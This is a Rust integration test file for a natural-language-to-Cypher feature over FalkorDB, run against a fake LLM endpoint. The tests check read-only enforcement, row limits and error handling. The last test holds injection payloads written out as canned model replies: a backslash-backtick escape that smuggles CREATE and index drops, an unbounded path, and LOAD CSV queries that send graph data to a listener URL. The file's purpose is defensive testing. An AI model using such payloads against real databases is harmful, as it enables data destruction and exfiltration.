//! Questions in plain language (issue 14 §4) against a stand-in chat endpoint that answers
//! canned completions: the prompt holds the graph's real schema, the answer shows the Cypher
//! it ran and its rows, writes are refused with nothing changed, and an endpoint that is down,
//! a malformed completion or no endpoint at all each give a clear error; the CLI and the HTTP
//! API end to end.

use std::sync::atomic::AtomicBool;
use std::sync::{Arc, Mutex};

use axum::routing::post;
use axum::{Json, Router};
use provex::ask::LlmConfig;
use provex::Error;
use serde_json::{json, Value};

use crate::common;

/// A chat endpoint answering `reply` (whole bodies), recording the prompts it was sent.
async fn stand_in(reply: Value) -> (String, Arc<Mutex<Vec<Value>>>) {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let s = seen.clone();
    let app = Router::new().route(
        "/v1/chat/completions",
        post(move |Json(body): Json<Value>| {
            let (s, reply) = (s.clone(), reply.clone());
            async move {
                s.lock().unwrap().push(body);
                Json(reply)
            }
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (url, seen)
}

fn completion(text: &str) -> Value {
    json!({"id": "c1", "object": "chat.completion", "choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}]})
}

fn config(url: &str) -> LlmConfig {
    LlmConfig { url: url.to_owned(), model: "stand-in".into(), key: Some("k".into()) }
}

async fn count(provex: &provex::facade::Provex, graph: &str) -> i64 {
    provex.query(graph, "MATCH (n) RETURN count(n)").await.unwrap().rows[0][0].as_i64().unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_question_runs_the_models_cypher_read_only() {
    let (provex, graph) = common::open("ask").await;
    provex.demo_council(&graph, None, Arc::new(AtomicBool::new(false))).await.unwrap();
    let (url, seen) = stand_in(completion(
        "Here you are:\n```cypher\nMATCH (s:Statement) RETURN count(s) AS statements;\n```",
    ))
    .await;
    provex.set_llm(Some(config(&url)));
    let a = provex.ask(&graph, "How many statements are there?").await.unwrap();
    assert_eq!(a.cypher, "MATCH (s:Statement) RETURN count(s) AS statements LIMIT 1001");
    assert_eq!(a.columns, ["statements"]);
    let want = provex.query(&graph, "MATCH (s:Statement) RETURN count(s)").await.unwrap().rows;
    assert_eq!(a.rows, want);
    assert!(!a.truncated);
    // The prompt holds the graph's real labels, relationship types and property names.
    let sent = seen.lock().unwrap()[0].clone();
    assert_eq!(sent["model"], "stand-in");
    let system = sent["messages"][0]["content"].as_str().unwrap().to_owned();
    assert_eq!(sent["messages"][1]["content"], "How many statements are there?");
    let schema = provex.graph_schema(&graph).await.unwrap();
    assert!(
        schema.labels.iter().any(|l| l == "Statement") && schema.relationships.iter().any(|r| r == "CITES")
    );
    for name in schema.labels.iter().chain(&schema.relationships).chain(&schema.properties) {
        assert!(system.contains(name.as_str()), "the prompt lacks {name}");
    }
    assert!(system.contains("(:Statement)-[:CITES]->(:Chunk)"), "{system}");

    // A write is refused and nothing changes.
    let before = count(&provex, &graph).await;
    for q in [
        "MATCH (n) DETACH DELETE n",
        "```\nCREATE (:Statement {name: 'x'})\n```",
        "MATCH (a)-[*]->(b) RETURN b",
    ] {
        let (url, _) = stand_in(completion(q)).await;
        provex.set_llm(Some(config(&url)));
        let e = provex.ask(&graph, "Delete everything").await.unwrap_err();
        assert!(matches!(e, Error::WriteRefused(_)), "{q}: {e}");
        assert!(e.to_string().contains("nothing was run"));
    }
    assert_eq!(count(&provex, &graph).await, before);

    // A query FalkorDB cannot run says so, with the Cypher.
    let (url, _) = stand_in(completion("MATCH (n RETURN n")).await;
    provex.set_llm(Some(config(&url)));
    let e = provex.ask(&graph, "?").await.unwrap_err();
    assert!(matches!(e, Error::Query(_)) && e.to_string().contains("MATCH (n RETURN n"), "{e}");

    // Malformed and empty completions, an endpoint that is down, none configured.
    for body in [json!({"nope": 1}), completion("   ")] {
        let (url, _) = stand_in(body).await;
        provex.set_llm(Some(config(&url)));
        assert!(matches!(provex.ask(&graph, "?").await.unwrap_err(), Error::Llm { .. }));
    }
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let down = format!("http://{}", closed.local_addr().unwrap());
    drop(closed);
    provex.set_llm(Some(config(&down)));
    let e = provex.ask(&graph, "?").await.unwrap_err();
    assert!(matches!(e, Error::Llm { .. }) && e.to_string().contains("unreachable"), "{e}");
    provex.set_llm(None);
    let e = provex.ask(&graph, "?").await.unwrap_err();
    assert!(matches!(e, Error::LlmNotConfigured));
    assert!(e.to_string().contains("PROVEX_LLM_URL"));
    provex.delete_graph(&graph).await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ask_from_the_cli_and_the_api() {
    let (provex, graph) = common::open("ask_cli").await;
    provex.demo_council(&graph, None, Arc::new(AtomicBool::new(false))).await.unwrap();
    let (url, _) =
        stand_in(completion("MATCH (a:Agent) RETURN a.name AS agent ORDER BY agent LIMIT 10")).await;
    let agents =
        provex.query(&graph, "MATCH (a:Agent) RETURN a.name AS agent ORDER BY agent LIMIT 10").await.unwrap();
    let url2 = url.clone();
    let g2 = graph.clone();
    let out = tokio::task::spawn_blocking(move || {
        assert_cmd::Command::cargo_bin("provex")
            .unwrap()
            .args(["--falkordb", common::url(), "ask", "Which agents are there?", "--graph", &g2])
            .env("PROVEX_LLM_URL", &url2)
            .env("PROVEX_LLM_MODEL", "stand-in")
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(stdout.starts_with("Cypher (stand-in):\n  MATCH (a:Agent)"), "{stdout}");
    for row in &agents.rows {
        assert!(stdout.contains(row[0].as_str().unwrap()), "{stdout}");
    }
    // No endpoint: a clear error and a failing exit.
    let g3 = graph.clone();
    let out = tokio::task::spawn_blocking(move || {
        assert_cmd::Command::cargo_bin("provex")
            .unwrap()
            .args(["--falkordb", common::url(), "ask", "?", "--graph", &g3])
            .env_remove("PROVEX_LLM_URL")
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("PROVEX_LLM_URL"));

    // The API: {code, message} across HTTP.
    let provex = Arc::new(provex);
    let (running, base) = crate::serve::serve_on(provex.clone(), None).await;
    let http = crate::serve::client();
    let api = format!("{base}/api/graphs/{graph}/ask");
    provex.set_llm(Some(config(&url)));
    let r: Value = http
        .post(&api)
        .json(&json!({"question": "Which agents?"}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(r["cypher"], "MATCH (a:Agent) RETURN a.name AS agent ORDER BY agent LIMIT 10");
    assert_eq!(r["rows"], json!(agents.rows));
    provex.set_llm(None);
    let resp = http.post(&api).json(&json!({"question": "Which agents?"})).send().await.unwrap();
    assert_eq!(resp.status().as_u16(), 503);
    let r: Value = resp.json().await.unwrap();
    assert_eq!(r["code"], "llm_not_configured");
    running.stop().await;
    provex.delete_graph(&graph).await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_row_limit_is_written_into_the_query_and_paths_stay_short() {
    let (provex, graph) = common::open("ask_limits").await;
    provex.demo_council(&graph, None, Arc::new(AtomicBool::new(false))).await.unwrap();
    // The server stops at 1,001 rows (written into the query), the answer shows 1,000.
    for (reply, ran) in [
        ("UNWIND range(1, 5000) AS i RETURN i", "UNWIND range(1, 5000) AS i RETURN i LIMIT 1001"),
        ("UNWIND range(1, 5000) AS i RETURN i LIMIT 3000", "UNWIND range(1, 5000) AS i RETURN i LIMIT 1001"),
    ] {
        let (url, _) = stand_in(completion(reply)).await;
        provex.set_llm(Some(config(&url)));
        let a = provex.ask(&graph, "count to 5000").await.unwrap();
        assert_eq!(a.cypher, ran);
        assert_eq!((a.rows.len(), a.truncated), (1000, true));
        assert_eq!(a.rows[999][0], json!(1000));
    }
    // A bound far past 10 hops costs like no bound: refused, nothing runs.
    let (url, _) = stand_in(completion("MATCH p = (a)-[*1..100000]->(b) RETURN count(p)")).await;
    provex.set_llm(Some(config(&url)));
    let e = provex.ask(&graph, "how far?").await.unwrap_err();
    assert!(matches!(e, Error::WriteRefused(_)) && e.to_string().contains("100000 hops"), "{e}");
    // Prose around a query without a fence is left out; prose alone is no query.
    let (url, _) = stand_in(completion(
        "With the schema above, this counts them:\nMATCH (s:Statement)\nRETURN count(s) AS n\n\nIt counts statements.",
    ))
    .await;
    provex.set_llm(Some(config(&url)));
    let a = provex.ask(&graph, "how many statements?").await.unwrap();
    assert_eq!(a.cypher, "MATCH (s:Statement)\nRETURN count(s) AS n LIMIT 1001");
    let (url, _) = stand_in(completion("I cannot answer that from this graph.")).await;
    provex.set_llm(Some(config(&url)));
    let e = provex.ask(&graph, "what is the weather?").await.unwrap_err();
    assert!(matches!(e, Error::Llm { .. }) && e.to_string().contains("no Cypher"), "{e}");
    provex.delete_graph(&graph).await.unwrap();
}

/// Every command the shared FalkorDB receives, as `MONITOR` prints them.
struct Monitor {
    seen: Arc<Mutex<String>>,
}

impl Monitor {
    fn start() -> Monitor {
        Monitor { seen: common::monitor(common::admin_url()) }
    }

    /// What the server received until now: a marker sent last is waited for.
    async fn received(&self, provex: &provex::facade::Provex, graph: &str) -> String {
        let marker = format!("monitor-marker-{}", std::process::id());
        provex.query(graph, &format!("RETURN '{marker}'")).await.unwrap();
        for _ in 0..500 {
            if self.seen.lock().unwrap().contains(&marker) {
                return self.seen.lock().unwrap().clone();
            }
            tokio::time::sleep(std::time::Duration::from_millis(10)).await;
        }
        panic!("MONITOR never showed {marker}");
    }
}

/// The findings against `ask`'s check, each as a model's reply: a backslash before a
/// backtick that hid a CREATE and a `db.idx.fulltext.drop` from the check (FalkorDB ends a
/// quoted name at the next backtick), a variable-length path without a bound spelled
/// `[IN*]`, and a LOAD CSV that made FalkorDB connect to a listener with graph data in the
/// URL. Each is refused as `write_refused`, by the check: FalkorDB never receives it (MONITOR
/// shows none of them) and the listener sees no connection.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ask_refuses_the_findings_before_falkordb_sees_them() {
    let (provex, graph) = common::open("ask_findings").await;
    provex.demo_council(&graph, None, Arc::new(AtomicBool::new(false))).await.unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let pid = std::process::id();
    let replies = [
        format!("MATCH (n) WITH n.`x\\` AS y CREATE (:Planted_{pid}) RETURN 1 //`"),
        format!("MATCH (n) WITH n.`x\\` AS y CALL db.idx.fulltext.drop('Dropped_{pid}') RETURN 1 //`"),
        format!("MATCH (a)-[IN*]->(b) WHERE a.name <> 'Unbounded_{pid}' RETURN count(b)"),
        format!(
            "MATCH (n) WITH n.`x\\` AS y, n LOAD CSV FROM 'https://127.0.0.1:{port}/Loaded_{pid}/' + n.name AS r RETURN r //`"
        ),
        format!("MATCH (n) LOAD CSV FROM 'https://127.0.0.1:{port}/Loaded_{pid}/' + n.name AS r RETURN r"),
    ];
    let monitor = Monitor::start();
    let before = count(&provex, &graph).await;
    let provex = Arc::new(provex);
    let (running, base) = crate::serve::serve_on(provex.clone(), None).await;
    let http = crate::serve::client();
    for reply in &replies {
        let (url, _) = stand_in(completion(&format!("```cypher\n{reply}\n```"))).await;
        provex.set_llm(Some(config(&url)));
        let e = provex.ask(&graph, "?").await.unwrap_err();
        assert!(matches!(e, Error::WriteRefused(_)), "{reply}: {e}");
        assert!(
            !e.to_string().contains("FalkorDB refused"),
            "only the server's read-only mode stopped {reply}: {e}"
        );
        let resp = http
            .post(format!("{base}/api/graphs/{graph}/ask"))
            .json(&json!({"question": "?"}))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status().as_u16(), 400, "{reply}");
        let body: Value = resp.json().await.unwrap();
        assert_eq!(body["code"], "write_refused", "{reply}: {body}");
    }
    // The CLI says so too, and fails.
    let (url, _) = stand_in(completion(&replies[3])).await;
    let g = graph.clone();
    let out = tokio::task::spawn_blocking(move || {
        assert_cmd::Command::cargo_bin("provex")
            .unwrap()
            .args(["--falkordb", common::url(), "ask", "Where do they live?", "--graph", &g])
            .env("PROVEX_LLM_URL", &url)
            .env("PROVEX_LLM_MODEL", "stand-in")
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("LOAD CSV"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    running.stop().await;

    let received = monitor.received(&provex, &graph).await;
    for marker in ["Planted_", "Dropped_", "Unbounded_", "Loaded_"] {
        assert!(!received.contains(&format!("{marker}{pid}")), "FalkorDB received the {marker} query");
    }
    listener.set_nonblocking(true).unwrap();
    assert!(
        matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "something connected to the LOAD CSV listener"
    );
    assert_eq!(count(&provex, &graph).await, before);
    provex.delete_graph(&graph).await.unwrap();
}
